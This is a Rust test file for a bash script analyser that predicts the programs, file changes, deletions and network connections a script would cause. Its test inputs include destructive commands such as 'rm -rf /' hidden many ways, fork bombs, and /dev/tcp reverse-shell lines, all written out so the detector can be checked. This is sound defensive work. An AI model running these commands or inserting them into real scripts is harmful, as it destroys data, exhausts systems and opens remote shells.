//! What scripts would do.

use super::{effects, trace};
use crate::effects::{Act, Code, Context, Invocation};
use crate::shell::value::{Piece, Value};

fn context() -> Context {
    Context {
        cwd: b"/w".to_vec(),
        home: b"/home/me".to_vec(),
        user: "me".to_owned(),
        workspace: b"/w".to_vec(),
        ..Context::default()
    }
}

/// A value in short: `‹…›` is what is not known, globs stand as they are.
fn shown(value: &Value) -> String {
    let mut text = String::new();
    for piece in &value.pieces {
        match piece {
            Piece::Known(bytes) => text.push_str(&String::from_utf8_lossy(bytes)),
            Piece::Unknown(why) => text.push_str(&format!("‹{}›", why.construct)),
            Piece::Glob(pattern) => text.push_str(&String::from_utf8_lossy(pattern)),
        }
    }
    text
}

fn line(invocation: &Invocation) -> String {
    let mut words: Vec<String> = invocation.argv.iter().map(shown).collect();
    if invocation.more.is_some() {
        words.push("…".to_owned());
    }
    words.join(" ")
}

/// The programs a script starts, in order and once each.
fn programs(script: &str) -> Vec<String> {
    let (invocations, _) = trace(script.as_bytes(), &context());
    let mut lines: Vec<String> = Vec::new();
    for invocation in &invocations {
        let line = line(invocation);
        if !lines.contains(&line) {
            lines.push(line);
        }
    }
    lines
}

fn unknowns(script: &str) -> Vec<String> {
    effects(script.as_bytes(), &context())
        .into_iter()
        .filter_map(|effect| match effect.act {
            Act::Unknown(why) => Some(why.construct),
            _ => None,
        })
        .collect()
}

#[test]
fn programs_get_what_bash_would_give_them() {
    let mut wrong = Vec::new();
    for (script, expected) in [
        ("c a b", vec!["c a b"]),
        ("c a; c b && c d || c e & c f | c g", vec!["c a", "c b", "c d", "c e", "c f", "c g"]),
        ("x=1; c $x ${x}2 \"$x\"", vec!["c 1 12 1"]),
        ("x='a b'; c $x \"$x\"", vec!["c a b a b"]),
        ("c {a,b}{1..3}", vec!["c a1 a2 a3 b1 b2 b3"]),
        ("c $(echo hi; echo there)", vec!["c hi there"]),
        ("c $(printf '\\x61\\x62')", vec!["c ab"]),
        ("$(printf '\\x72\\x6d') -rf /", vec!["rm -rf /"]),
        ("for d in a b /; do c $d; done", vec!["c a", "c b", "c /"]),
        ("if true; then c a; else c b; fi", vec!["c a"]),
        ("if q; then x=1; else x=2; fi; c $x", vec!["q", "c 1", "c 2"]),
        ("f() { c \"$@\"; }; f 1 2", vec!["c 1 2"]),
        ("c ~ ~/x ~root", vec!["c /home/me /home/me/x /root"]),
        ("c \"${x:-d}\"", vec!["c ‹the variable x, which is not empty›", "c d"]),
        ("x=abc; c ${x#a} ${x%c} ${x/b/B} ${x:1:1} ${x^^} ${#x}", vec!["c bc ab aBc b ABC 3"]),
        ("x=/a/b.c; c ${x##*/} ${x%/*} ${x%.*}", vec!["c b.c /a /a/b"]),
        ("c $((1+2*3)) $((2**8)) $((7/2)) $((x=4, x+1))", vec!["c 7 256 3 5"]),
        ("i=0; while [ $i -lt 3 ]; do c $i; i=$((i+1)); done", vec!["c 0", "c 1", "c 2"]),
        ("case ab in a*) c 1;; *) c 2;; esac", vec!["c 1"]),
        ("case $u in a*) c 1;; *) c 2;; esac", vec!["c 1", "c 2"]),
        ("set -- a b; c $# \"$2\"; shift; c $1", vec!["c 2 b", "c b"]),
        ("eval 'c a'; eval c '$HOME'", vec!["c a", "c /home/me"]),
        ("a=(1 2 '3 4'); c \"${a[@]}\" ${#a[@]} ${a[-1]}", vec!["c 1 2 3 4 3 3 4"]),
        ("declare -A m=([k]=v); c ${m[k]}", vec!["c v"]),
        ("read a b <<< 'x y z'; c $a; c $b", vec!["c x", "c y z"]),
        ("while read -r l; do c $l; done <<< $'p\\nq'", vec!["c p", "c q"]),
        ("printf 'a\\nb\\n' | while read l; do c $l; done", vec!["c a", "c b"]),
        ("x=a; (x=b; c $x); c $x", vec!["c b", "c a"]),
        ("c *.txt \"*\" '?'", vec!["c *.txt * ?"]),
        ("IFS=,; x=a,b; c $x", vec!["c a b"]),
        ("IFS=:; x=a::b; c $x", vec!["c a  b"]),
        ("trap 'c $x' EXIT; x=1", vec!["c 1"]),
        ("x=y; y=z; c ${!x}", vec!["c z"]),
        ("declare -n r=y; y=z; c $r; r=q; c $y", vec!["c z", "c q"]),
        ("f() { local x=2; c $x; }; x=1; f; c $x", vec!["c 2", "c 1"]),
        ("command c a; builtin eval 'c b'; exec c d", vec!["c a", "c b", "c d"]),
        ("shopt -s expand_aliases\nalias l='c -l'\nl x", vec!["c -l x", "l x"]),
        ("alias l='c -l'\nl x", vec!["l x"]),
        ("c $'a\\tb' \"a\\\"b\"", vec!["c a\tb a\"b"]),
        ("false && c a; true || c b; c d", vec!["c d"]),
        ("exit; c a", vec![]),
        ("return; c a; break; c b", vec!["c a", "c b"]),
        ("c a > f; c b < g", vec!["c a", "c b"]),
        ("c <(d) >(e)", vec!["d", "c /dev/fd/63 /dev/fd/62", "e"]),
        ("x=$(c) y=1 d", vec!["c", "d"]),
        ("(( c = 3 )); d $c; let 'e=c*2'; d $e", vec!["d 3", "d 6"]),
        ("for ((i=0;i<2;i++)); do c $i; done", vec!["c 0", "c 1"]),
        ("[[ a == a ]] && c 1; [[ a == b ]] && c 2; [[ -n $u ]] && c 3", vec!["c 1", "c 3"]),
        ("c ${u:+x}", vec!["c x", "c"]),
        ("hash -p /bin/rm ls; ls x", vec!["/bin/rm x"]),
        ("echo 'c a' > /tmp/x.sh; . /tmp/x.sh", vec!["c a"]),
        ("echo 'c $1' > x.sh; ./x.sh b", vec!["./x.sh b", "c b"]),
        ("a='x[$(c)]'; (( a ))", vec!["c"]),
        ("test -v 'x[$(c)]'", vec!["c"]),
        ("let 'x[$(c)]=1'; unset 'y[$(d)]'; printf -v 'z[$(e)]' x", vec!["c", "d", "e"]),
        ("p='$(c)'; echo ${p@P}", vec!["c"]),
        ("mapfile -t l <<< $'p\\nq'; c ${l[1]}", vec!["c q"]),
        ("$SUDO c a", vec!["‹the variable SUDO› c a …", "c a …"]),
    ] {
        let got = programs(script);
        if got != expected {
            wrong.push(format!("{script}\n   got {got:?}\n  want {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_cannot_be_known_is_said() {
    let mut wrong = Vec::new();
    for (script, expected) in [
        ("eval \"$u\"", "a script that holds the variable u"),
        ("$u", "a program named by the variable u"),
        ("/bin/r? -rf /", "a program named by a glob"),
        ("x=$(c); (( x ))", "arithmetic on the output of c, which may run commands"),
        ("x=$(c); [[ $x -eq 1 ]]", "arithmetic on the output of c, which may run commands"),
        ("c 'a", "text bash would refuse"),
        ("c {1..100000}", "braces that stand for too many words"),
        (
            "f() { f; f; f; }; while c; do x=$x$x$x; f; done; for a in {1..999}; do for b in {1..999}; do c; done; done",
            "more work than a command should be",
        ),
    ] {
        let got = unknowns(script);
        if !got.iter().any(|got| got == expected) {
            wrong.push(format!("{script}\n   got {got:?}\n  want {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Effects in short.
fn acts(script: &str) -> Vec<String> {
    let mut acts: Vec<String> = Vec::new();
    for act in effects(script.as_bytes(), &context()).iter().filter_map(|effect| short(&effect.act)) {
        if !acts.contains(&act) {
            acts.push(act);
        }
    }
    acts
}

fn short(act: &Act) -> Option<String> {
    Some(match act {
        Act::Read { path, .. } => format!("read {}", shown(path)),
        Act::Write { path, change, content } => {
            let content =
                content.as_ref().map(|content| format!(" {:?}", shown(content))).unwrap_or_default();
            format!("{change:?} {}{content}", shown(path))
        }
        Act::Delete { path, .. } => format!("delete {}", shown(path)),
        Act::Network { traffic, to, .. } => format!("{traffic:?} {}", shown(to)),
        Act::Run { code: Code::File(path), .. } => format!("run {}", shown(path)),
        Act::Run { code: Code::Download(from), .. } => format!("run download {}", shown(from)),
        Act::Power(power) => format!("{power:?}"),
        Act::Unknown(why) => format!("unknown {}", why.construct),
        _ => return None,
    })
}

#[test]
fn redirections_files_and_flows_are_effects() {
    let mut wrong = Vec::new();
    for (script, expected) in [
        ("> f", vec!["Empty /w/f"]),
        (": > ../f", vec!["Empty /f"]),
        ("echo hi > f", vec!["Replace /w/f \"hi\\n\""]),
        ("{ echo a; echo b; } >> f", vec!["Append /w/f \"a\\nb\\n\""]),
        ("cd sub; echo a > f; cd -; echo b > f", vec!["Replace /w/sub/f \"a\\n\"", "Replace /w/f \"b\\n\""]),
        ("(cd /etc && echo a > f); echo b > f", vec!["Replace /etc/f \"a\\n\"", "Replace /w/f \"b\\n\""]),
        ("cat <<< x > /dev/null 2>&1", vec![]),
        ("read x < f", vec!["read /w/f"]),
        ("echo > /dev/tcp/h/80", vec!["Send h:80"]),
        ("bash -i >& /dev/tcp/h/99 0>&1", vec!["Send h:99", "Listen tcp://h:99"]),
        ("exec 3<>/dev/tcp/h/80; cat <&3 | bash", vec!["Send h:80", "Listen tcp://h:80"]),
        ("exec {n}> f; echo a >&$n", vec!["Replace /w/f \"a\\n\""]),
        ("exec > f; echo a; echo b", vec!["Replace /w/f \"a\\nb\\n\""]),
        ("rm -rf \"$d\"/", vec!["delete ‹the variable d›/"]),
        ("rm -rf \"$d\"/../x", vec!["delete ‹what is above the variable d›/x"]),
        ("rm -rf \"${d:?}\"/*", vec!["delete ‹the variable d, which is not empty›/*"]),
        ("[ -n \"$d\" ] && rm -rf \"$d\"/*", vec!["delete ‹the variable d, which is not empty›/*"]),
        (
            "if [[ -z $d ]]; then exit 1; fi; rm -rf \"$d\"/*",
            vec!["delete ‹the variable d, which is not empty›/*"],
        ),
        ("d=/tmp/x; [ -z \"$d\" ] && d=/; rm -rf $d", vec!["delete /tmp/x"]),
        ("[ $RANDOM = 1 ] && d=/ || d=/tmp/x; rm -rf $d", vec!["delete /", "delete /tmp/x"]),
        ("echo 'rm -rf /' | sh", vec!["delete /"]),
        ("sh <<< 'rm -rf /'", vec!["delete /"]),
        ("sh <<E\nrm -rf $HOME\nE", vec!["delete /home/me"]),
        ("sh <<'E'\nrm -rf $HOME\nE", vec!["delete /home/me"]),
        ("echo 'rm -rf /' > x.sh; bash x.sh", vec!["Replace /w/x.sh \"rm -rf /\\n\"", "delete /"]),
        ("printf 'rm -rf %s\\n' / > x; chmod +x x; ./x", vec!["Replace /w/x \"rm -rf /\\n\"", "delete /"]),
        (
            "echo 'rm -rf /' | tee x >/dev/null; cp x y; . ./y",
            vec!["Replace /w/x \"rm -rf /\\n\"", "read /w/x", "Replace /w/y", "delete /"],
        ),
        ("tee >(bash) <<< 'rm -rf /'", vec!["delete /"]),
        ("bash <(echo rm -rf /)", vec!["delete /"]),
        ("source <(echo rm -rf /)", vec!["delete /"]),
        ("cat <(echo rm -rf /) | bash", vec!["delete /"]),
        ("x=/; bash -c 'rm -rf \"$x\"'", vec!["delete ‹the variable x›"]),
        ("x=/; export x; bash -c 'rm -rf \"$x\"'", vec!["delete /"]),
        ("x=/ bash -c 'rm -rf \"$x\"'", vec!["delete /"]),
        ("readonly x=/\nx=/tmp/y\nrm -rf $x", vec!["delete /"]),
        (":(){ :|:& };:", vec!["Exhaust"]),
        ("bomb() { bomb | bomb & }; bomb", vec!["Exhaust"]),
        (
            "walk() { rm \"$1\"; walk \"$1/x\"; }; walk a",
            vec![
                "delete /w/a",
                "delete /w/a/x",
                "delete /w/a/x/x",
                "delete ‹the arguments of a function that calls itself›",
            ],
        ),
        ("cd /nonexistent || rm -rf *", vec!["delete /w/*"]),
        ("cd ~root && rm x", vec!["delete /root/x"]),
        ("pushd /etc; rm x; popd; rm y", vec!["delete /etc/x", "delete /w/y"]),
        ("CDPATH=/etc; cd ssh; rm x", vec!["delete ‹a directory found through CDPATH›/x"]),
        ("f=a.txt; rm -- \"${f%.txt}\"/{b,c}", vec!["delete /w/a/b", "delete /w/a/c"]),
        ("for f in *.log; do rm \"${f%.log}.old\"; done", vec!["delete /w/*.old"]),
        ("/bin/r[m] -rf /", vec!["unknown a program named by a glob", "delete /"]),
        ("x=a; x+=b; rm $x", vec!["delete /w/ab"]),
        ("rm -rf ${HOME%/*}", vec!["delete /home"]),
        ("rm -rf ${PATH:0:1}", vec!["delete /"]),
        ("set -- /; rm -rf \"$@\"", vec!["delete /"]),
        ("shopt -s lastpipe; echo / | read d; rm -rf $d", vec!["delete /"]),
        ("echo / | xargs rm -rf", vec!["delete /"]),
        ("while true; do rm x; break; done; rm y", vec!["delete /w/x", "delete /w/y"]),
        ("select d in / x; do rm -rf $d; done", vec!["delete /", "delete /w/x"]),
        ("coproc rm x; rm y", vec!["delete /w/x", "delete /w/y"]),
        ("time rm x; ! rm y", vec!["delete /w/x", "delete /w/y"]),
        ("trap 'rm -rf \"$t\"' EXIT; t=/tmp/q; exit 0", vec!["delete /tmp/q"]),
        (
            "compgen -C 'rm x'; compgen -W '$(rm y)'; mapfile -C 'rm z' -c 1 <<< a",
            vec![
                "delete /w/x",
                "delete /w/y",
                "unknown a callback that holds what is read",
                "delete /w/z",
                "delete ‹a number, the line›",
                "delete ‹what is read›",
            ],
        ),
        ("echo 'rm -rf \"$1\"' | sh -s /", vec!["delete /"]),
        ("sh -s -- a / <<< 'rm -rf \"$2\"'", vec!["delete /"]),
        ("bash -c 'rm -rf \"$@\"' _ $(cat f)", vec!["read /w/f", "delete ‹the output of cat›"]),
        ("PS4='$(rm x)'; set -x; :", vec!["delete /w/x"]),
        ("PS4='$(rm x)'; set -o xtrace; true; set +x", vec!["delete /w/x"]),
        ("<()rm x; r<( )m y", vec!["delete /w/x", "delete /w/y"]),
        ("trap 'rm x' ERR; false; trap - ERR", vec!["delete /w/x"]),
        ("exec {d}>5{,}; rm x < y", vec!["read /w/y", "delete /w/x"]),
        ("bash -c 'rm \"$2\"' a* b", vec!["delete ‹an argument behind a glob›"]),
        ("PS4='$(rm x)' bash -xc :", vec!["delete /w/x"]),
        ("shopt -s expand_aliases\nalias l='rm x'\nalias l=''; l", vec!["delete /w/x"]),
        ("shopt -s expand_aliases\nalias l='rm x'\n{ unalias l\nl\n}", vec!["delete /w/x"]),
        ("env -S'rm' -f x", vec!["delete /w/x"]),
        (": ${u?$(rm x)}; : ${w:?\"$(rm y)\"}", vec!["delete /w/x", "delete /w/y"]),
        ("v=1; : ${v?$(rm x)}", vec![]),
        ("w=$(rm x) >5{,}; w=$(rm y) c >5{,}", vec!["delete /w/x", "delete /w/y"]),
        ("cd / > >(rm x)", vec!["delete /w/x"]),
        ("exec > >(rm x)", vec!["delete /w/x"]),
        ("exec > >(sh); echo rm x", vec!["unknown what is written from then on"]),
        ("rm -rf \"$OLDPWD/x\"", vec!["delete ‹the variable OLDPWD›/x"]),
        ("rm $(printf '%q' x) $(printf %q 'a b')", vec!["delete /w/x", "delete /w/a\\", "delete /w/b"]),
        ("echo \"'a b' c\" | xargs -n1 rm", vec!["delete /w/a b", "delete /w/c"]),
        ("BIN=/bin/echo; \"$BIN\" hi", vec![]),
        ("git commit -m 'rm -rf /'", vec![]),
        ("cat <<'E' > notes\nrm -rf /\nE", vec!["Replace /w/notes \"rm -rf /\\n\""]),
        ("c <<E\nEOF\r\nE\nrm x", vec!["delete /w/x"]),
        ("echo \"a << b\"; rm x", vec!["delete /w/x"]),
        (
            "echo $[ x='a[$(rm y)]', x ]",
            vec!["delete /w/y", "unknown arithmetic on the output of rm, which may run commands"],
        ),
    ] {
        let got = acts(script);
        let same = got == expected
            || (expected.iter().all(|one| got.iter().any(|got| got == one)) && got.len() == expected.len());
        if !same {
            wrong.push(format!("{script}\n   got {got:?}\n  want {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
